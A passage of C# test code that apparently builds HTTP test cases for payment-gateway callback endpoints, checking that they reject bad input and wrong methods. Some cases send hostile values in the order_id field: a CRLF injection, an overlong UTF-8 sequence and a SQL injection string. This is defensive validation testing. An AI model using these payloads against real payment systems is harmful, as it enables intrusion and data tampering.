        cases.Add(new("POST shurjopay ipn | CRLF in order_id", HttpMethod.Post, ipn, Bodies.UrlEncoded([("order_id", "sp-hostile-1\r\n")]),
            Json(422, ControlCharacters, "order_id")));
        cases.Add(new("POST shurjopay ipn | overlong UTF-8", HttpMethod.Post, ipn, Bodies.UrlEncoded([], rawTail: "order_id=sp%C0%AF1"), Json(400, BadBytes, "order_id")));
        cases.Add(new("POST shurjopay ipn | injection", HttpMethod.Post, ipn, Bodies.UrlEncoded([("order_id", "' OR '1'='1")]),
            Json(400, "Missing or invalid order_id.")));

        foreach (var (method, path) in new[]
                 {
                     (HttpMethod.Post, "/payments/shurjopay/return"), (HttpMethod.Put, ipn), (HttpMethod.Delete, "/payments/securesoftpay/return"),
                     (HttpMethod.Post, "/payments/securesoftpay/cancel"), (HttpMethod.Patch, "/payments/shurjopay/cancel"),
                 })
        {
            cases.Add(new($"{method} {path} | 405", method, path, Bodies.None, Json(405, NotAllowed)));
        }
        cases.Add(new("GET /payments/unknown | 404", HttpMethod.Get, "/payments/unknown", Bodies.None, Json(404, "Not found.")));
    }

    /// <summary>The JSON object with one property set (added or replaced) to a value, written by System.Text.Json (so control characters are escaped).</summary>
    private static string WithProperty(string json, string name, object? value)
    {
        var node = System.Text.Json.Nodes.JsonNode.Parse(json.Replace("$PROVIDER", "1"))!.AsObject();
        node[name] = JsonSerializer.SerializeToNode(value);
        return node.ToJsonString().Replace("\"provider_id\":1", "\"provider_id\":$PROVIDER");
    }
}
